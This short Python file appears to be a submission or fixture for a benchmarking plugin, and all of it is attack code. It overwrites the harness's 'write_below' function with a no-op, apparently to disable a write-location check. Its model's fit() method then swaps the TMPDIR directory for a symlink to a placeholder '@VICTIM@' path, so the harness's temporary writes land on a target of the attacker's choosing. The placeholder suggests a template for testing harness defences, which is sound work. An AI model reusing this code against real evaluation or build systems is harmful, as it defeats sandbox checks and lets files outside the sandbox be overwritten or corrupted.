import benchplugin._serve as side
from benchplugin import serve
import os, shutil
side.write_below = lambda folder, devices: None
class Moves:
    def fit(self, X, y):
        own = os.environ["TMPDIR"]
        if not own.endswith("x"):
            os.rename(own, own + "x")
            os.symlink("@VICTIM@", own)
            os.environ["TMPDIR"] = own + "x"
    def decision_function(self, X): return X[:, 0]
serve(Moves)
